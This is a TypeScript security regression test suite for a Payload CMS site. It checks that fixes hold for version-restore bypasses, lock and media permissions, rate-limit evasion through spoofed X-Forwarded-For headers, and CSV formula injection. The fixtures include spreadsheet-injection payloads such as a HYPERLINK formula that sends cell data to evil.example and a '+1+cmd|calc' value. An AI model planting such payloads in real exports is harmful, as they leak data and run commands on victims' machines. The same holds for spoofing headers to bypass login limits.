import type { Payload } from 'payload'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'

import { resetRateLimits } from '../../src/security/rate-limit'
import { transition } from '../../src/workflow/transition'
import { lessonData, pilotData, pngFile, practiceData } from '../support/fixtures'
import { createUser, fromAddress, graphqlRequest, login, rest, testPayload, unique, uploadForm } from '../support/hub'
import { workflowInvariantProblems } from '../support/invariant'
import { freshSearchIndex, runSearchJobs } from '../support/search'

/**
 * The findings of the signed-in side, one test each (docs/security.md lists them): each failed
 * on the code before its fix. The access matrix, the contact relay and the search sync have their
 * own files.
 */

let payload: Payload
let pilotA: number
let pilotB: number
type Person = { id: number; email: string; password: string; token: string; user: Record<string, unknown> }
let contributorA: Person
let contributorB: Person
let editor: Person
let otherEditor: Person
let admin: Person

const person = async (role: 'admin' | 'editor' | 'contributor', pilots: number[] = []): Promise<Person> => {
  const made = await createUser(payload, role, pilots)
  const user = { ...(await payload.findByID({ collection: 'users', id: made.user.id, depth: 0 })), collection: 'users' }
  return { id: Number(made.user.id), email: made.email, password: made.password, token: await login(made.email, made.password), user }
}

/** A practice of pilot A published by the system, then revised and published again through review. */
async function practiceWithHistory(): Promise<{ id: number; firstTitle: string; secondTitle: string }> {
  const firstTitle = unique('First published title')
  const created = await payload.create({
    collection: 'practices',
    data: practiceData(pilotA, { title: firstTitle, _status: 'published' }) as never,
  })
  const id = Number(created.id)
  const secondTitle = unique('Second published title')
  await payload.update({
    collection: 'practices',
    id,
    data: { title: secondTitle },
    draft: true,
    overrideAccess: false,
    user: contributorA.user as never,
  })
  await transition(payload, { collection: 'practices', id, action: 'submitForReview', user: contributorA.user as never })
  await transition(payload, { collection: 'practices', id, action: 'publish', user: editor.user as never })
  return { id, firstTitle, secondTitle }
}

const publicTitle = async (id: number) =>
  (await rest('GET', `/practices/${id}`, { query: { depth: '0' } })).body.title as string | undefined
const versionsOf = async (id: number) =>
  (await payload.findVersions({ collection: 'practices', where: { parent: { equals: id } }, sort: 'createdAt', limit: 100, depth: 0 }))
    .docs as unknown as {
    id: number
    version: { title: string; _status: string }
  }[]

beforeAll(async () => {
  payload = await testPayload()
  pilotA = Number((await payload.create({ collection: 'pilots', data: pilotData({ _status: 'published' }) as never })).id)
  pilotB = Number((await payload.create({ collection: 'pilots', data: pilotData({ _status: 'published' }) as never })).id)
  contributorA = await person('contributor', [pilotA])
  contributorB = await person('contributor', [pilotB])
  editor = await person('editor')
  otherEditor = await person('editor')
  admin = await person('admin')
})

beforeEach(() => resetRateLimits())

describe('review bypass: version restores', () => {
  test('a contributor cannot restore a version of its own record, over REST or GraphQL: 403 with the reason, nothing changes', async () => {
    const { id, firstTitle, secondTitle } = await practiceWithHistory()
    const old = (await versionsOf(id)).find((version) => version.version.title === firstTitle && version.version._status === 'published')!
    const draftVersion = (await versionsOf(id)).find((version) => version.version._status === 'draft')!

    const restRestore = await rest('POST', `/practices/versions/${old.id}`, { token: contributorA.token })
    expect(restRestore.status).toBe(403)
    expect(restRestore.body.errors[0].message).toMatch(/^restoreVersion: only editors and admins may restore a version/)
    const unpublish = await rest('POST', `/practices/versions/${draftVersion.id}`, { token: contributorA.token })
    expect(unpublish.status).toBe(403)
    const graph = await graphqlRequest(`mutation { restoreVersionPractice(id: ${old.id}) { id } }`, { token: contributorA.token })
    expect(graph.body.errors?.[0]?.message).toMatch(/^restoreVersion: only editors and admins/)
    expect(graph.body.errors?.[0]?.extensions?.statusCode).toBe(403)

    expect(await publicTitle(id)).toBe(secondTitle)
    expect(await workflowInvariantProblems(payload, 'practices', id)).toEqual([])
  })

  test('an editor restores a published version: it is public, the states agree, and the history says so', async () => {
    const { id, firstTitle } = await practiceWithHistory()
    const old = (await versionsOf(id)).find((version) => version.version.title === firstTitle && version.version._status === 'published')!
    const restored = await rest('POST', `/practices/versions/${old.id}`, { token: editor.token })
    expect(restored.status, JSON.stringify(restored.body)).toBe(200)
    expect(await publicTitle(id)).toBe(firstTitle)
    expect(await workflowInvariantProblems(payload, 'practices', id)).toEqual([])
    const events = await payload.find({
      collection: 'review-events',
      where: {
        and: [
          { recordCollection: { equals: 'practices' } },
          { recordId: { equals: String(id) } },
          { action: { equals: 'restoreVersion' } },
        ],
      },
      depth: 0,
    })
    expect(events.docs).toHaveLength(1)
    expect(events.docs[0]).toMatchObject({ fromState: 'published', toState: 'published', actor: editor.id })
  })

  test('an editor restoring a draft version takes the record off the site with both states saying draft; as a draft it stays public', async () => {
    const { id, secondTitle } = await practiceWithHistory()
    const draftVersion = (await versionsOf(id)).find((version) => version.version._status === 'draft')!
    const asDraft = await rest('POST', `/practices/versions/${draftVersion.id}`, { token: editor.token, query: { draft: 'true' } })
    expect(asDraft.status, JSON.stringify(asDraft.body)).toBe(200)
    expect(await publicTitle(id)).toBe(secondTitle)
    expect(await workflowInvariantProblems(payload, 'practices', id)).toEqual([])

    const graph = await graphqlRequest(`mutation { restoreVersionPractice(id: ${draftVersion.id}) { id } }`, { token: otherEditor.token })
    expect(graph.body.errors).toBeUndefined()
    expect((await rest('GET', `/practices/${id}`)).status).toBe(404)
    expect(await workflowInvariantProblems(payload, 'practices', id)).toEqual([])
  })

  test('an archived record is not brought back by a version restore', async () => {
    const { id, firstTitle } = await practiceWithHistory()
    await transition(payload, { collection: 'practices', id, action: 'archive', user: editor.user as never })
    const old = (await versionsOf(id)).find((version) => version.version.title === firstTitle && version.version._status === 'published')!
    const response = await rest('POST', `/practices/versions/${old.id}`, { token: editor.token })
    expect(response.status).toBe(400)
    expect(response.body.errors[0].message).toMatch(/archived; bring it back with the "restore" action/)
    expect((await rest('GET', `/practices/${id}`)).status).toBe(404)
  })

  test('property: after every one of 120 random operations by random users, _status and reviewState agree', async () => {
    let seed = 13
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31
    const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!
    const records = [(await practiceWithHistory()).id, (await practiceWithHistory()).id, (await practiceWithHistory()).id]
    const people = [contributorA, editor, otherEditor, admin]
    const actions = ['submitForReview', 'requestChanges', 'publish', 'archive', 'restore', 'startRevision'] as const
    for (let n = 0; n < 120; n++) {
      const id = pick(records)
      const who = pick(people)
      const roll = random()
      let label: string
      if (roll < 0.3) {
        const versions = await versionsOf(id)
        const version = pick(versions)
        const draft = random() < 0.3
        label = `restore version ${version.id} (${version.version._status}${draft ? ', as draft' : ''}) by ${who.user.role}`
        await rest('POST', `/practices/versions/${version.id}`, { token: who.token, query: draft ? { draft: 'true' } : {} })
      } else if (roll < 0.55) {
        label = `edit by ${who.user.role}`
        await rest('PATCH', `/practices/${id}`, { token: who.token, query: { draft: 'true' }, body: { summary: `Edit ${n}` } })
      } else if (roll < 0.65) {
        label = `bulk edit by ${who.user.role}`
        await rest('PATCH', '/practices', {
          token: who.token,
          query: { draft: 'true', 'where[id][equals]': String(id) },
          body: { summary: `Bulk ${n}` },
        })
      } else {
        const action = pick(actions)
        label = `${action} by ${who.user.role}`
        await rest('POST', `/practices/${id}/workflow/${action}`, { token: who.token, body: { note: 'Please revise.' } })
      }
      for (const record of records)
        expect(await workflowInvariantProblems(payload, 'practices', record), `after #${n}: ${label}`).toEqual([])
    }
  }, 600_000)
})

describe('built-in operations and collections', () => {
  test('only administrators unlock an account', async () => {
    const locked = await person('editor')
    await payload.update({
      collection: 'users',
      id: locked.id,
      data: { lockUntil: new Date(Date.now() + 600_000).toISOString(), loginAttempts: 5 } as never,
      overrideAccess: true,
    })
    for (const who of [contributorA, editor]) {
      const response = await rest('POST', '/users/unlock', { token: who.token, body: { email: locked.email } })
      expect(response.status, who.email).toBe(403)
    }
    expect((await rest('POST', '/users/unlock', { body: { email: locked.email } })).status).toBe(403)
    expect((await payload.findByID({ collection: 'users', id: locked.id, showHiddenFields: true })).lockUntil).toBeTruthy()
    expect((await rest('POST', '/users/unlock', { token: admin.token, body: { email: locked.email } })).status).toBe(200)
    expect((await payload.findByID({ collection: 'users', id: locked.id, showHiddenFields: true })).lockUntil).toBeFalsy()
  })

  test('a lock is taken only in one’s own name, on a record one may change; editors are not locked out by contributors', async () => {
    const practice = Number((await payload.create({ collection: 'practices', data: practiceData(pilotA) as never, draft: true })).id)
    const lock = (who: Person, document: { relationTo: string; value: number }, user: number) =>
      rest('POST', '/payload-locked-documents', { token: who.token, body: { document, user: { relationTo: 'users', value: user } } })
    // Another user's account, in that user's name: the finding.
    const onAdmin = await lock(contributorA, { relationTo: 'users', value: admin.id }, admin.id)
    expect(onAdmin.status).toBe(403)
    expect(onAdmin.body.errors[0].message).toMatch(/^user: a record is locked in your own name only/)
    expect((await lock(contributorA, { relationTo: 'users', value: admin.id }, contributorA.id)).status).toBe(403)
    expect((await lock(contributorB, { relationTo: 'practices', value: practice }, contributorB.id)).status).toBe(403)
    const own = await lock(contributorA, { relationTo: 'practices', value: practice }, contributorA.id)
    expect(own.status, JSON.stringify(own.body)).toBe(201)
    const lockId = own.body.doc.id as number
    // Another contributor can neither take it over nor remove it.
    expect(
      (
        await rest('PATCH', `/payload-locked-documents/${lockId}`, {
          token: contributorB.token,
          body: { user: { relationTo: 'users', value: contributorB.id } },
        })
      ).status,
    ).toBe(403)
    expect([403, 404]).toContain((await rest('DELETE', `/payload-locked-documents/${lockId}`, { token: contributorB.token })).status)
    // The editor takes it over in their own name, and saves.
    const takeOver = await rest('PATCH', `/payload-locked-documents/${lockId}`, {
      token: editor.token,
      body: { user: { relationTo: 'users', value: editor.id } },
    })
    expect(takeOver.status, JSON.stringify(takeOver.body)).toBe(200)
    expect(
      (
        await rest('PATCH', `/practices/${practice}`, {
          token: editor.token,
          query: { draft: 'true' },
          body: { summary: 'Saved by the editor.' },
        })
      ).status,
    ).toBe(200)
  })

  test('images are changed by their uploader and the editors only', async () => {
    const file = await pngFile()
    const uploaded = await rest('POST', '/media', { token: contributorA.token, form: uploadForm(file.data, file.name, { alt: 'A photo' }) })
    expect(uploaded.status, JSON.stringify(uploaded.body)).toBe(201)
    const id = uploaded.body.doc.id as number
    expect(uploaded.body.doc.uploadedBy.id).toBe(contributorA.id)
    const replacement = await pngFile('other.png')
    const byOther = await rest('PATCH', `/media/${id}`, {
      token: contributorB.token,
      form: uploadForm(replacement.data, replacement.name, { alt: 'Replaced' }),
    })
    expect(byOther.status).toBe(403)
    expect((await rest('PATCH', `/media/${id}`, { token: contributorB.token, body: { alt: 'Defaced' } })).status).toBe(403)
    expect((await payload.findByID({ collection: 'media', id })).alt).toBe('A photo')
    expect((await rest('PATCH', `/media/${id}`, { token: contributorA.token, body: { alt: 'Better text' } })).status).toBe(200)
    expect((await rest('PATCH', `/media/${id}`, { token: editor.token, body: { alt: 'Edited text' } })).status).toBe(200)
    // The uploader cannot be rewritten by a client.
    await rest('PATCH', `/media/${id}`, { token: editor.token, body: { uploadedBy: contributorB.id } })
    expect((await payload.findByID({ collection: 'media', id, depth: 0 })).uploadedBy).toBe(contributorA.id)
  })

  test('the jobs endpoints answer administrators only', async () => {
    for (const path of ['/payload-jobs/run', '/payload-jobs/handle-schedules']) {
      expect((await rest('GET', path)).status, path).toBe(403)
      const denied = await rest('GET', path, { token: contributorA.token })
      expect(denied.status, path).toBe(403)
      expect(denied.body.errors[0].message).toMatch(/only administrators run the jobs queue/)
      expect((await rest('GET', path, { token: editor.token })).status, path).toBe(403)
      expect((await rest('GET', path, { token: admin.token })).status, path).toBe(200)
    }
  })

  test('a bulk update goes through the same guards as a single one', async () => {
    const sample = Number(
      (await payload.create({ collection: 'lessons', data: { ...lessonData(pilotA), isSample: true } as never, draft: true })).id,
    )
    const inReview = Number((await payload.create({ collection: 'lessons', data: lessonData(pilotA) as never, draft: true })).id)
    await transition(payload, { collection: 'lessons', id: inReview, action: 'submitForReview', user: contributorA.user as never })
    const unmark = await rest('PATCH', '/lessons', {
      token: contributorA.token,
      query: { draft: 'true', 'where[id][equals]': String(sample) },
      body: { isSample: false },
    })
    expect(unmark.status).toBe(403)
    expect(unmark.body.errors[0].message).toMatch(/^isSample: only editors/)
    expect((await payload.findByID({ collection: 'lessons', id: sample, draft: true })).isSample).toBe(true)
    const back = await rest('PATCH', '/lessons', {
      token: contributorA.token,
      query: { draft: 'true', 'where[id][equals]': String(inReview) },
      body: { reviewState: 'draft' },
    })
    expect(back.status).toBe(403)
    expect((await payload.findByID({ collection: 'lessons', id: inReview, draft: true })).reviewState).toBe('in_review')
  })
})

// Each of these sends fifty sign-ins, fifty password hashes: minutes on a busy machine.
describe('the client address of the rate limits', () => {
  test('a rotating X-Forwarded-For no longer gives unlimited sign-in attempts', async () => {
    const statuses: number[] = []
    for (let n = 0; n < 55; n++) {
      const headers = { ...fromAddress('198.51.100.20'), 'x-forwarded-for': `203.0.113.${n}` }
      statuses.push(
        (await rest('POST', '/users/login', { body: { email: `${unique('nobody')}@example.org`, password: 'x' }, headers })).status,
      )
    }
    expect(statuses.slice(0, 50).every((status) => status === 401)).toBe(true)
    expect(statuses.slice(50)).toEqual([429, 429, 429, 429, 429])
  }, 300_000)

  test('requests whose address cannot be known share one limited key instead of none', async () => {
    const statuses: number[] = []
    for (let n = 0; n < 52; n++) {
      statuses.push((await rest('POST', '/users/login', { body: { email: `${unique('nobody')}@example.org`, password: 'x' } })).status)
    }
    expect(statuses.slice(50)).toEqual([429, 429])
  }, 300_000)

  test('the GraphQL 429 keeps its reason', async () => {
    const headers = fromAddress('198.51.100.21')
    let last: Awaited<ReturnType<typeof graphqlRequest>> | undefined
    for (let n = 0; n < 11; n++)
      last = await graphqlRequest('mutation { loginUser(email: "same@example.org", password: "x") { token } }', { headers })
    expect(last!.body.errors[0].message).toMatch(/^Too many sign-in attempts: try again in \d+ s$/)
    expect(last!.body.errors[0].extensions.statusCode).toBe(429)
  })
})

describe('the CSV export and the search page', () => {
  beforeAll(async () => {
    freshSearchIndex()
    await payload.create({
      collection: 'practices',
      data: practiceData(pilotA, {
        title: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        summary: '+1+cmd|calc',
        _status: 'published',
      }) as never,
    })
    await payload.create({
      collection: 'lessons',
      data: { ...lessonData(pilotA), title: '@SUM(1+1)', summary: '-2+3', _status: 'published' } as never,
    })
    await runSearchJobs(payload)
  })

  const exportCsv = async (query: string, headers: Record<string, string>) => {
    const { searchExportResponse } = await import('../../src/site/search-export')
    const response = await searchExportResponse(
      payload,
      'en',
      new Request(`http://localhost:3000/en/search/export.csv?${query}`, { headers }),
    )
    return { status: response.status, text: await response.text(), headers: response.headers }
  }

  test('no exported cell starts a spreadsheet formula', async () => {
    const { status, text } = await exportCsv('q=', fromAddress('198.51.100.30'))
    expect(status).toBe(200)
    const cells = text.split(/\r\n/).flatMap((line) => line.split(','))
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`)
    expect(text).toContain("'@SUM(1+1)")
    expect(text).toContain("'+1+cmd|calc")
    expect(text).toContain("'-2+3")
    for (const cell of cells) expect(cell.replace(/^"/, ''), cell).not.toMatch(/^[=+\-@]/)
  })

  test('the export counts its engine queries against the searches per address: 429 with Retry-After', async () => {
    const headers = fromAddress('198.51.100.31')
    // One page of results, so one engine query per export.
    const statuses: number[] = []
    for (let n = 0; n < 125; n++) statuses.push((await exportCsv('q=HYPERLINK', headers)).status)
    expect(statuses.slice(0, 120).every((status) => status === 200)).toBe(true)
    expect(statuses.slice(120)).toEqual([429, 429, 429, 429, 429])
    const refused = await exportCsv('q=HYPERLINK', headers)
    expect(refused.status).toBe(429)
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(refused.text).toMatch(/Too many searches/)
    expect((await exportCsv('q=HYPERLINK', fromAddress('198.51.100.32'))).status).toBe(200)
  })

  test('the search page counts its searches the same way', async () => {
    const { runSiteSearch } = await import('../../src/site/search')
    const headers = new Headers(fromAddress('198.51.100.33'))
    for (let n = 0; n < 120; n++) expect((await runSiteSearch(payload, 'en', { q: 'microcredit' }, { limitFor: headers })).ok).toBe(true)
    const limited = await runSiteSearch(payload, 'en', { q: 'microcredit' }, { limitFor: headers })
    expect(limited.ok).toBe(false)
    expect(limited.ok === false && limited.retryAfterSeconds).toBeGreaterThan(0)
  })
})

afterAll(() => resetRateLimits())
